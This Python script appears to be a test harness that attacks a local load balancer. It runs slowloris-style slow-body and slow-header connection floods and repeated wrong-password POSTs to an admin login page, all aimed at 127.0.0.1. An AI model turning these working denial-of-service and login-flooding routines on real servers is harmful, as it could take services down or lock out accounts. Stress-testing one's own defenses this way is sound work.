"""Attackers of one balancer, in a process of their own: slow bodies, guessers of passwords, slow heads.

The process attacks until its input ends, and then prints how much it did, as JSON.
"""

import argparse
import asyncio
import contextlib
import json
import resource
import secrets
import sys
from collections import Counter
from collections.abc import Awaitable
from urllib.parse import urlencode

BYTE_SECONDS = 1.0
# Connections that begin at the same moment would not fit the queue of the listener.
_CONNECTIONS_AT_ONCE = 64
_AFTER_REFUSAL_SECONDS = 0.05
_BODY = (
    "PUT /api/v1/app/devices/attacker/settings HTTP/1.1\r\nhost: localhost\r\n"
    "content-type: application/json\r\ncontent-length: 60000\r\n\r\n"
)
_HEAD = "GET /api/v1/app/devices/attacker/settings HTTP/1.1\r\nhost: localhost\r\nx-slow: "


class Attack:
    def __init__(self, port: int) -> None:
        self._port = port
        self._connecting = asyncio.Semaphore(_CONNECTIONS_AT_ONCE)
        self.done: Counter[str] = Counter()

    async def trickle(self, kind: str, beginning: str) -> None:
        """Begins a request and sends a byte a second; begins anew when the server has had enough."""
        while True:
            with contextlib.suppress(OSError):
                async with self._connecting:
                    reader, writer = await asyncio.open_connection("127.0.0.1", self._port)
                self.done[f"{kind}_begun"] += 1
                try:
                    writer.write(beginning.encode())
                    while not writer.is_closing() and not reader.at_eof():
                        writer.write(b"a")
                        self.done[f"{kind}_bytes"] += 1
                        await asyncio.sleep(BYTE_SECONDS)
                finally:
                    writer.close()
            await asyncio.sleep(_AFTER_REFUSAL_SECONDS)

    async def guess(self) -> None:
        """Sends wrong passwords one after the other, each for another account."""
        token = secrets.token_hex(16)
        while True:
            form = {"csrfmiddlewaretoken": token, "username": secrets.token_hex(8), "password": "wrong"}
            body = urlencode(form)
            request = (
                f"POST /admin/login/ HTTP/1.1\r\nhost: 127.0.0.1:{self._port}\r\n"
                f"origin: http://127.0.0.1:{self._port}\r\ncookie: csrftoken={token}\r\n"
                f"content-type: application/x-www-form-urlencoded\r\nconnection: close\r\n"
                f"content-length: {len(body)}\r\n\r\n{body}"
            )
            with contextlib.suppress(OSError, IndexError):
                reader, writer = await asyncio.open_connection("127.0.0.1", self._port)
                try:
                    writer.write(request.encode())
                    answer = await reader.read()
                    self.done[f"guesses_{answer.split(b' ', 2)[1].decode()}"] += 1
                finally:
                    writer.close()


async def main() -> None:
    arguments = _arguments()
    _allow_connections(arguments.heads + arguments.bodies + arguments.guessers)
    attack = Attack(arguments.port)
    attacks: list[Awaitable[None]] = [attack.trickle("bodies", _BODY) for _ in range(arguments.bodies)]
    attacks += [attack.trickle("heads", _HEAD) for _ in range(arguments.heads)]
    attacks += [attack.guess() for _ in range(arguments.guessers)]
    tasks = [asyncio.ensure_future(each) for each in attacks]
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(attack.done))


def _arguments() -> argparse.Namespace:
    parser = argparse.ArgumentParser()
    for name in ("port", "bodies", "guessers", "heads"):
        parser.add_argument(f"--{name}", type=int, required=True)
    return parser.parse_args()


def _allow_connections(count: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    needed = count + 128
    if soft != resource.RLIM_INFINITY and soft < needed:
        resource.setrlimit(resource.RLIMIT_NOFILE, (needed, hard))


if __name__ == "__main__":
    asyncio.run(main())
